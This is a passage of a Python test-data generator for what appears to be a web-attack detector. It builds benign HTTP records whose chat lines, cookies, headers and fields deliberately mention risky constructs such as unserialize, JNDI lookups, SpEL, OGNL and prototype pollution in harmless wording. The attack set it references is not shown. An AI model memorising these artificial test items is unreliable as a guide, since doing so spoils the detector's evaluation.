    "reminder: never unserialize() cookie data, use json_decode instead",
    "log4j is patched everywhere, `${jndi:` lookups are disabled since 2.17",
    "Runtime.getRuntime().availableProcessors() returns 2 on the CI runners",
    "ProcessBuilder with inheritIO() is the nicest way to run git from the build tool",
    "SpEL expressions like #{systemProperties['user.home']} only live in our application.yml",
    "our Struts 1 app was retired in 2019, no OGNL anywhere anymore",
    "Jackson polymorphic typing stays off, we use @JsonTypeInfo with names only",
    "Node: child_process.spawn with an args array, never exec with a string, please",
    "process.env.PORT defaults to 3000 in dev",
    "TIL Object.create(null) avoids __proto__ surprises in lookup maps",
    "lodash merge had a prototype pollution CVE, we're on 4.17.21 now",
    "python: subprocess.run([...], check=True) is what the deploy script uses",
    "pickle is fine for the local cache but not for anything that crosses the network",
    "`__import__` showed up in the linter report, it's the plugin loader, expected",
    "ruby: IO.popen with an array is safer than backticks, updated the rake task",
    "ERB templates in the mailer use <%= user.name %> and that's escaped by default",
    "Jinja2 autoescape is on; {{ user.name }} renders escaped",
    "the Twig cache dir is var/cache/prod/twig, clear it after deploy",
    "Freemarker templates for invoices live under templates/ftl/",
    "Thymeleaf th:text vs th:utext: use th:text unless you really need HTML",
    "handlebars helpers are registered in helpers.js, {{#each items}} works fine",
    "Smarty 4 upgrade broke {$smarty.now|date_format}, fixing",
    "Velocity is still used by the Confluence macros, nothing we own",
    "X-Forwarded-For has the client IP first, then each proxy",
    "the ETag for /api/users is W/\"5f2a-1c\" now that we hash the body",
    "Accept-Language: fr-CH, fr;q=0.9, en;q=0.8 is what the Swiss office sends",
    "the cart cookie holds sku and qty only, prices are looked up server side",
    "new theme cookie: theme=dark or theme=light, default follows the OS",
    "multipart uploads over 10 MB go to the S3 presigned URL instead",
    "the XML export for the payroll vendor is <employees><employee id=\"1\">...</employee></employees>",
    "Rails credentials moved out of secrets.yml, run bin/rails credentials:edit",
    "Spring Boot actuator is only on the management port now",
    "Django templates use {% url 'home' %}, not hard-coded paths",
    "the Python worker uses multiprocessing with spawn, not fork",
]
DOC_URLS = [
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://docs.oracle.com/en/java/javase/21/docs/api/java.base/java/lang/ProcessBuilder.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://nodejs.org/api/child_process.html#child_processspawncommand-args-options",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/Object/proto",
    "https://docs.python.org/3/library/subprocess.html",
    "https://docs.python.org/3/library/pickle.html",
    "https://ruby-doc.org/core-3.1.0/Kernel.html#method-i-system",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/filter.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Forwarded",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/If-None-Match",
    "https://owasp.org/www-community/attacks/Server_Side_Template_Injection",
]
PROSE = [
    "the system was down for ten minutes during the process migration",
    "please evaluate the prototype before the constructor review",
    "Ruby and Python meetup on Thursday, pizza provided",
    "our Java runtime team owns the build process",
    "the template for the invoice says {{customer_name}} where the name should be",
    "require approval from two people before exec sign-off",
    "the cookie jar on the kitchen counter is for everyone",
    "Forwarded the request to the host team, they will reply",
    "theme: dark, language: en-GB, cart: 3 items",
    "file name was invoice_2024-03.php.bak, please delete it from the share",
    "cat photos from the offsite are in the drive",
    "the session with the client ran long; import the notes later",
    "the runtime of the film is two hours, the prototype screening is at seven",
    "Java, Ruby and Python are the three languages on the job ad",
    "we will evaluate each template against the brand guide",
    "the process owner signs off on the system change",
    "file the expense report by Friday",
    "the handlebars on my bike need new grips",
]

BENIGN_COOKIES = [
    "_ga=GA1.2.1873456921.1716300000; _gid=GA1.2.99812345.1716400000; theme=dark",
    "PHPSESSID=9k2lq8v4c1f7r3n0m5s6t8u2p1; lang=de-DE",
    "JSESSIONID=4F2A1C9B7D3E5A6B8C0D1E2F3A4B5C6D.node1; "
    "cart=%7B%22items%22%3A%5B%7B%22sku%22%3A%22A-100%22%2C%22qty%22%3A2%7D%5D%7D",
    "connect.sid=s%3AjP3x9Q2k.7vN%2Fq8L0aZ1bY2cX3dW4eV5fU6gT7hS8iR9jQ0kP; prefs=%7B%22units%22%3A%22metric%22%7D",
    "_session_id=a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6; remember_token=1%7Cd41d8cd98f00b204e9800998ecf8427e",
    "laravel_session=eyJpdiI6IlVyd1B0dnJ2RmdkR2xBPT0iLCJ2YWx1ZSI6IkFCQyIsIm1hYyI6IjEyMyJ9; XSRF-TOKEN=abc",
    "theme=light; lang=fr; tz=Europe%2FParis; consent=analytics%3Dtrue%26ads%3Dfalse",
    "_fbp=fb.1.1716300000000.1234567890; _hjid=3f1e6a2b-7c8d-4e9f-a0b1-c2d3e4f5a6b7",
    "ajs_user_id=%22user_42%22; ajs_anonymous_id=%229f8e7d6c-5b4a-3c2d-1e0f-a9b8c7d6e5f4%22",
    "tracking_id=utm_source%3Dnewsletter%7Cutm_medium%3Demail%7Cutm_campaign%3Dspring_sale",
    "prefs=eyJ0aGVtZSI6ImRhcmsiLCJsYW5nIjoiZW4ifQ; sidebar=collapsed",
    "cart=sku:A-100*2|sku:B-220*1; currency=EUR",
    "csrftoken=Zx8vQ2pL9mN4bR7tY1wE3uI6oP0aS5dF; sessionid=q9w8e7r6t5y4u3i2o1p0",
    "OptanonConsent=isGDPRApplicable=1&datestamp=Tue+May+21+2024; lang=en",
    "theme=system; font_size=large; reduce_motion=1",
]
BENIGN_HEADERS = [
    {"X-Forwarded-For": "203.0.113.195, 70.41.3.18, 150.172.238.178"},
    {"X-Forwarded-For": "2001:db8:85a3::8a2e:370:7334"},
    {"X-Forwarded-Host": "app.example.com"},
    {"X-Forwarded-Host": "api.example.org:8443", "X-Forwarded-Proto": "https"},
    {"Forwarded": "for=192.0.2.60;proto=http;by=203.0.113.43"},
    {"Forwarded": "for=\"[2001:db8:cafe::17]:4711\";proto=https;host=example.com"},
    {"True-Client-IP": "198.51.100.178"},
    {"X-Api-Version": "2024-06-01"},
    {"X-Api-Version": "v2"},
    {"X-Requested-With": "XMLHttpRequest"},
    {"X-Requested-With": "com.example.android.app"},
    {"X-Client-Data": "CJW2yQEIo7bJAQjEtskBCKmdygEIlqHLAQiFoM0BCOC0zQE="},
    {"X-Custom-Trace": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
    {"X-Custom-Tenant": "acme-corp"},
    {"X-Custom-Locale": "pt_BR"},
    {"X-Custom-Feature": "new-search,dark-mode,beta_exports"},
    {"Accept-Language": "en-US,en;q=0.9,de;q=0.8"},
    {"Accept-Language": "zh-CN,zh;q=0.9,en-US;q=0.7,en;q=0.6"},
    {"Accept-Language": "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5"},
    {"If-None-Match": "W/\"5f2a-1c8b9d0e\""},
    {"If-None-Match": "\"33a64df551425fcc55e4d42a148795d9f25f89d4\", \"7b2c\""},
    {"User-Agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"},
    {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/125.0.0.0 Safari/537.36 Edg/125.0.0.0"},
    {"User-Agent": "okhttp/4.12.0"},
    {"User-Agent": "python-requests/2.32.3"},
    {"User-Agent": "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"},
    {"User-Agent": "Java/17.0.10"},
    {"User-Agent": "Ruby"},
    {"User-Agent": "PostmanRuntime/7.39.0"},
    {"User-Agent": "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP1A.240505.005)"},
    {"Referer": "https://www.google.com/"},
    {"Referer": "https://app.example.com/search?q=php+system+requirements&page=2"},
    {"Referer": "https://github.com/acme/api/pull/1234/files#diff-process"},
    {"Referer": "https://stackoverflow.com/questions/2005954/center-a-position-fixed-element"},
    {"Referer": "https://docs.example.com/templates/jinja?section=filters"},
]
BENIGN_QUERY_NAMES = [
    "filter[status]=active&filter[role]=admin",
    "fields[users]=name,email&include=team",
    "sort=-created_at&page[size]=25&page[number]=2",
    "tags[]=java&tags[]=python&tags[]=ruby",
    "user[name]=Ann&user[prefs][theme]=dark",
    "q=php&lang=en&utm_source=newsletter&utm_medium=email",
    "search%5Bterm%5D=template%20engine&search%5Bscope%5D=docs",
    "options.process=nightly&options.system=eu-west",
    "class=premium&constructor=acme-builders",
    "prototype_id=42&proto=https",
    "require_2fa=true&exec_summary=1",
    "template=invoice_v2&format=pdf",
]
BENIGN_JSON = [
    {"name": "Ann", "settings": {"theme": "dark", "notifications": {"email": True, "slack": False}}},
    {"name": "Bo", "profile": {"attributes": {"team": "platform", "runtime": "java17"}}},
    {"name": "Cy", "preferences": {"editor": {"language": "python", "process": "auto"}}},
    {"name": "Di", "metadata": {"constructor_company": "Acme Builders", "prototype_stage": "beta"}},
    {"name": "Ed", "flags": {"system_admin": False, "require_mfa": True}},
    {"name": "Fa", "integrations": {"github": {"repo": "acme/api", "template": "default"}}},
    {"name": "Gu", "profile": {"skills": ["PHP", "Java", "Node.js", "Ruby", "Jinja2"]}},
    {"name": "Ha", "address": {"street": "10 Prototype Lane", "city": "Springfield"}},
    {"name": "Io", "custom_fields": {"cf_php_version": "8.3", "cf_jvm": "OpenJDK 21"}},
    {"name": "Jo", "settings": {"template": {"subject": "Hello {{first_name}}", "locale": "en"}}},
]
BENIGN_MULTIPART = [
    ("avatar", "me.png", "image/png", "\x89PNG small avatar"),
    ("attachment", "system-design-notes.txt", "text/plain", "We run the process per tenant; the system scales."),
    ("attachment", "php-upgrade-checklist.md", "text/markdown", "# PHP 8.3 upgrade\n- run composer update\n"),
    ("attachment", "Runtime_metrics_2024.csv", "text/csv", "date,requests,errors\n2024-05-01,1200,3\n"),
    ("attachment", "template_invoice.html", "text/html", "<p>Dear customer, your invoice is attached.</p>"),
    ("resume", "Ann_ONeil_Java_Developer.pdf", "application/pdf", "%PDF-1.4 resume"),
    ("attachment", "requirements.txt", "text/plain", "flask==3.0.3\njinja2==3.1.4\n"),
    ("attachment", "Gemfile", "text/plain", "source 'https://rubygems.org'\ngem 'rails', '~> 7.1'\n"),
]
BENIGN_XML = [
    "<user><name>Ann O'Neil</name><note>prefers Java and Python</note></user>",
    "<user id=\"42\" role=\"editor\"><name>Bo</name><email>bo@example.org</email></user>",
    "<user><name>Cy</name><bio>Builds templates for the system team.</bio></user>",
    "<user><name>Di</name><settings theme=\"dark\" lang=\"en-GB\"/></user>",
    "<user><name>Ed</name><note>process: nightly; runtime: 5 min</note></user>",
    "<user><name>Fa</name><address city=\"Lyon\">3 rue de la Paix</address></user>",
]
BENIGN_PATHS = ["/api/users/42", "/api/users/ann.oneil%40example.org", "/api/users/U012345678",
                "/api/users/7f3c2a10-4b1e-4d6f-9a2b-3c4d5e6f7a8b", "/api/users/process-team", "/api/users/me"]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, f"{NAME}-benign-chat")
    n = yield from links_and_prose(DOC_URLS, PROSE, f"{NAME}-benign-docs", n)
    for i, cookie in enumerate(BENIGN_COOKIES):
        for k in range(2):
            n += 1
            yield {**_with_headers(i + k, {"Cookie": cookie}), "id": f"{NAME}-benign-cookie-{n:04d}",
                   "category": "benign", "placement": "cookie"}
    for i, headers in enumerate(BENIGN_HEADERS):
        for k in range(2):
            n += 1
            yield {**_with_headers(i + k, headers), "id": f"{NAME}-benign-header-{n:04d}",
                   "category": "benign", "placement": "header"}
    for qs in BENIGN_QUERY_NAMES:
        for path in ("/api/users?", "/api/users?page=2&"):
            n += 1
            yield {**_get(path + qs.replace(" ", "%20")), "id": f"{NAME}-benign-query-{n:04d}",
                   "category": "benign", "placement": "query-name"}
    for doc in BENIGN_JSON:
        for uri in ("/api/users", "/api/users/42"):
            n += 1
            yield {**_json(uri, {"email": "a@example.org", **doc}), "id": f"{NAME}-benign-json-{n:04d}",
                   "category": "benign", "placement": "json-key"}
    for i, (name, filename, ctype, content) in enumerate(BENIGN_MULTIPART):
        for uri in ("/admin/users/search", "/api/users"):
            n += 1
            parts = [("csrf_token", None, None, CSRF), ("note", None, None, f"upload {i}"),
                     (name, filename, ctype, content)]
            yield {**_multipart(uri, parts), "id": f"{NAME}-benign-multipart-{n:04d}",
                   "category": "benign", "placement": "multipart"}
    n = yield from numbered((_xml(body) for body in BENIGN_XML), f"{NAME}-benign-xml", n, "xml")
    for path in BENIGN_PATHS:
        n += 1
        yield {**_get(path), "id": f"{NAME}-benign-path-{n:04d}", "category": "benign", "placement": "path"}
    n = yield from numbered((_get(_query("/api/users", [("q", text), ("page", "1")]))
                             for text in ("ann", "php developer", "java", "ruby on rails", "template")),
                            f"{NAME}-benign-search", n, "query")


if __name__ == "__main__":
    print_records(attacks(), benign())
